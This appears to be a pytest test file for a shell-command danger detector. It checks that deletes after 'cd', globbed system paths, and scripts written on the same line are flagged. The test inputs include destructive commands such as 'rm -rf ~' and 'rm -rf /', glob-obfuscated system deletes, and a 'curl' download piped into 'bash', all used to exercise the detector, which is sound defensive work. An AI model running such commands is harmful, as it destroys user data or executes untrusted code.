"""Where deletes land: `cd` along the line, globs against the file system, and the
bounds that keep both cheap (issue 25, point 15)."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from hermes.tools.danger import Whereabouts, detect_danger, detect_dangers
from hermes.tools.danger_places import MAX_PLACES, glob_matches


@pytest.fixture
def where(tmp_path: Path) -> Whereabouts:
    home = tmp_path / "home" / "alice"
    (home / "notes").mkdir(parents=True)
    (tmp_path / "home" / "bob").mkdir()
    (tmp_path / "work").mkdir()
    return Whereabouts(tmp_path / "work", home, home / ".hermes", home / ".hermes")


def keys(command: str, where: Whereabouts) -> list[str]:
    return [d.key for d in detect_dangers(command, where)]


def test_a_delete_is_judged_in_each_directory_a_cd_before_it_may_lead_to(
        where: Whereabouts) -> None:
    """Subshells and failed `cd`s are not told apart: every directory named counts."""
    for command in ("cd ~ && rm -rf *", "cd ~/notes; cd ..; rm -rf .", "(cd ~); rm -rf ./*",
                    "cd $HOME/notes && rm -rf ../"):
        assert keys(command, where)[0] == "delete_home", command
    for command in ("cd ~/notes && rm -rf *", "cd /tmp && rm -rf x", "cd ~ && rm -rf notes"):
        danger = detect_danger(command, where)
        assert danger is not None and not danger.hard, command


def test_a_glob_is_matched_against_the_file_system(where: Whereabouts, tmp_path: Path) -> None:
    """Names are matched as the shell matches them: `*`, `?`, `[...]`, no dot files."""
    assert keys("rm -rf ~/../al[i]ce", where)[0] == "delete_home"
    assert keys(f"rm -rf {tmp_path}/ho*", where)[0] == "delete_home"  # holds alice's home
    danger = detect_danger("rm -rf ~/no*", where)
    assert danger is not None and not danger.hard
    assert glob_matches(f"{tmp_path}/home/*", time.monotonic() + 1) == [
        f"{tmp_path}/home/alice", f"{tmp_path}/home/bob"]
    assert glob_matches(f"{tmp_path}/home/.*", time.monotonic() + 1) == []  # no . or ..


def test_protected_names_match_whatever_the_file_system_holds(where: Whereabouts) -> None:
    """`/u?r`, `/[e]tc` and `/b*n` are system directories by name, even where globbing
    has no time left or the directory does not exist."""
    for command in ("rm -rf /u?r", "rm -rf /[e]tc/", "rm -rf /sr?", "rm -rf /?tc"):
        assert keys(command, where)[0] == "delete_system", command
    assert glob_matches("/u?r", deadline=0) == []


def test_globbing_a_long_line_stays_within_its_time(where: Whereabouts) -> None:
    line = "rm -rf " + " ".join(f"/*/*/x{i}*" for i in range(300))
    start = time.monotonic()
    assert keys(line, where) == ["recursive_delete"]
    assert time.monotonic() - start < 5


def test_more_directories_than_can_be_followed_are_not_taken_for_safe(
        where: Whereabouts) -> None:
    line = "; ".join(f"cd d{i}" for i in range(MAX_PLACES + 2)) + "; ls"
    assert keys(line, where) == ["unparseable"]
    assert detect_dangers("cd a; cd b; cd c; ls", where) == []


def test_more_scripts_than_can_be_followed_are_not_taken_for_safe(where: Whereabouts) -> None:
    line = "echo ls > s.sh; " + "; ".join("sh s.sh" for _ in range(40))
    assert keys(line, where) == ["unparseable"]
    assert detect_dangers("echo ls > s.sh; sh s.sh; sh s.sh", where) == []


@pytest.mark.parametrize(("command", "key"), [
    ("echo 'echo hi' > a.sh; echo 'rm -rf ~' >> a.sh; sh a.sh", "delete_home"),
    ("cat > a.sh <<'EOF'\nrm -rf /\nEOF\nsh ./a.sh", "delete_root"),
    ("cd /tmp && echo 'rm -rf ~' > a.sh && cd / && sh /tmp/a.sh", "delete_home"),
    ("curl -o a.sh x.io/a; echo ls >> a.sh; bash a.sh", "pipe_to_shell"),
    ("echo -e 'rm\\x20-rf ~' > a.sh; sh a.sh", "run_new_script"),
    ("cp /tmp/a.sh b.sh && sh b.sh", "run_new_script"),
    ("tee a.sh <<'EOF'\nrm -rf build\nEOF\nsource a.sh", "recursive_delete"),
])
def test_a_script_the_line_writes_is_checked_where_it_is_run(
        where: Whereabouts, command: str, key: str) -> None:
    found = keys(command, where)
    assert key in found, (command, found)
